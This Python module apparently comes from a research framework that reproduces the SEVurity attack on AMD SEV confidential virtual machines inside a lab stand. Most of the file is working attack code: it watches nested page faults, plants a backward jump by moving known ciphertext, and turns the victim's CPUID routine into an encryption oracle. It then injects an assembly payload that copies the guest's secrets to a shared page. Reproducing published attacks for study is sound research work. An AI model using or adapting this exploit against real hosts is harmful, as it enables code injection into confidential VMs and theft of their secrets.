"""A10: the victim's own CPUID becomes an encryption oracle, and then its code is the adversary's."""

from __future__ import annotations

import struct
from typing import Final

from cbit.attacks.experiments.correspondent import Owner, opens_letters
from cbit.attacks.experiments.known_constants import EXPECT, PARAMETERS, SETUP, SETUPS, fresh, kernel
from cbit.attacks.lab.assemble import assemble
from cbit.attacks.lab.attack import attack
from cbit.attacks.lab.built_in import KERNEL
from cbit.attacks.lab.corpus import Corpus, difference, xor
from cbit.attacks.lab.guest import CPUID, HLT, NPF
from cbit.attacks.lab.hands import Hands
from cbit.attacks.lab.log import AGREES, Log
from cbit.attacks.lab.scene import Facts, Scene
from cbit.attacks.lab.stand import Stand
from cbit.attacks.lab.tools import Thwarted, gpa_of
from cbit.attacks.power import Power
from cbit.guest.builtin.image import image
from cbit.guest.builtin.interface import IMAGE, NAME, SECRET, SHARED_AT, SHARED_PAGE, SHOWN
from cbit.spec.address import BLOCK, PAGE

#: mov eax, esi; cpuid; stosd; mov [rdi], ebx …: the built-in guest asks for its processor's name, as kernels
#: do: a block of code, aligned as compilers align loops, that stores the sixteen bytes of an answer.
ROUTINE: Final = bytes.fromhex("89f0 0fa2 ab 891f 894f04 895708 83c70c")
#: To find code, to replace its blocks, and to read what comes of it.
HOLDS: Final = {
    Power.MAP_MEMORY,
    Power.FLUSH_CACHES,
    Power.EDIT_NESTED_TABLES,
    Power.TAKE_EXITS,
    Power.CLIENT,
}
ASKS_FOR_NAME: Final = 0x80000002  #: CPUID's leaf when it runs first
#: Begins the block behind it: back to its start.
LOOP: Final = b"\xeb" + struct.pack("b", -BLOCK - 2)
OUT: Final = SHARED_AT + SHOWN - SHARED_PAGE
PAYLOAD: Final = f"""
    mov esi, {SECRET:#x}
    mov edi, {OUT:#x}
    mov ecx, {PAGE // 8}
    rep movsq
    hlt
"""


def booting(stand: Stand) -> Scene:
    """Launch the built-in guest beside a large public image; it has not run yet."""
    owner, known = Owner.of(stand), kernel(stand)
    guest = stand.built_in(owner.table, kernel=known)
    routine = IMAGE + image().index(ROUTINE)
    facts = Facts({"kernel_at": KERNEL, "kernel": known, "routine": routine, "buffer": NAME})
    return Scene(owner.secrets, facts, guest, planted=owner.gave(guest), serves=opens_letters(stand))


@attack(
    title="SEVurity: code injected through the victim's CPUID",
    experiment="E6",
    paper="Wilke et al., SEVurity, S&P 2020 (attacks.md A10, case 2)",
    holds=HOLDS | {Power.EMULATE},
    expect=EXPECT,
    defences=fresh("the victim crashed"),
    victim=booting,
    setup=SETUP,
    setups=SETUPS,
    parameters=PARAMETERS,
)
def code_injection(hands: Hands, facts: Facts, log: Log) -> bytes:
    """Turn a routine of the victim's into an encryption oracle, and write code with what the oracle gives.

    1. Forbid execution; the nested fault tells when the routine's page is about to run.
    2. Replace the block behind "store 16 bytes of CPUID's answer" by one of the known image's that begins,
       once it is moved there, with a jump back: two chosen bytes are enough.
    3. Now each CPUID stores sixteen bytes of the adversary's choice under the victim's key, and the
       ciphertext is read at the next one: one exit for each block.
    4. Corrected by the difference of the tweaks, that ciphertext is valid anywhere.  It is put over the jump,
       and the victim copies its secrets to a shared page.
    """
    routine, buffer = facts.number("routine"), facts.number("buffer")
    corpus = Corpus(hands.memory, facts.number("kernel_at"), facts.data("kernel"), xe=False)
    wait_for(hands, routine & -PAGE, log)
    behind = hands.memory.spa(routine + BLOCK)
    found = corpus.find(LOOP, behind)
    if found is None:
        raise Thwarted("no block of the known plaintext gives the wanted jump")
    hands.caches.write_back()
    hands.memory.write(behind, corpus.ciphertext_for(found, behind))
    hands.caches.write_back()
    log.step(
        f"the kernel's block at {corpus.gpa(found):#x} is moved: it begins with {LOOP.hex()}, a jump back"
    )
    code = assemble(PAYLOAD, routine + BLOCK)
    code += bytes(-len(code) % BLOCK)
    hands.victim.until(CPUID)
    before = hands.victim.exits
    for at in range(0, len(code), BLOCK):
        target, oracle = (
            behind + at,
            hands.memory.spa(buffer + at),
        )  # the routine goes on by a block each time
        wanted = xor(code[at : at + BLOCK], difference(oracle, target))
        for name, word in zip(("rax", "rbx", "rcx", "rdx"), struct.unpack("<4I", wanted), strict=True):
            hands.emulation[name] = word
        hands.victim.skip(2)
        hands.victim.until(CPUID)  # without the jump there is no second CPUID
        hands.caches.write_back()
        cells = xor(hands.memory.read(oracle, BLOCK), difference(oracle, target))
        log.step(f"block {at // BLOCK}: ciphertext of the adversary's code for its place", cells)
        hands.memory.write(target, cells)
        if at == 0:
            first = cells
            hands.memory.write(target, corpus.ciphertext_for(found, target))  # the loop is still wanted
        hands.caches.write_back()
    exits = hands.victim.exits - before
    hands.memory.write(behind, first)
    hands.caches.write_back()
    hands.victim.skip(2)
    hands.victim.until(HLT)
    loot = hands.service.shared(SHOWN, PAGE)
    log.step("the victim has run the injected code", loot)
    blocks = len(code) // BLOCK
    log.figure(
        "exits for each 16-byte block",
        exits / blocks,
        published="1 (CPUID oracle: 10^6 blocks in 37.5 s)",
        source="SEVurity §V-B (attacks.md A10 step 6)",
        difference=AGREES,
    )
    log.figure(
        "bytes that can be chosen in a block that is only moved",
        corpus.chosen_bytes(),
        "bytes",
        published="2, expected limit 3",
        source="SEVurity §IV-C (attacks.md A10)",
        difference="more than half of all values can be had at one address",
    )
    return loot


def wait_for(hands: Hands, page: int, log: Log) -> None:
    """Let the victim run until it is about to execute a page of its image."""
    pages = [gpa for gpa in hands.tables.pages() if gpa >= IMAGE]
    hands.tables.forbid_execution(*pages)
    faults, gpa = 0, 0
    while gpa != page:
        gpa = gpa_of(hands.victim.until(NPF).info_2) & -PAGE
        hands.tables.home(gpa)
        faults += 1
    for gpa in pages:
        hands.tables.home(gpa)
    log.step(f"{faults} nested faults later the victim is about to execute {page:#x}")
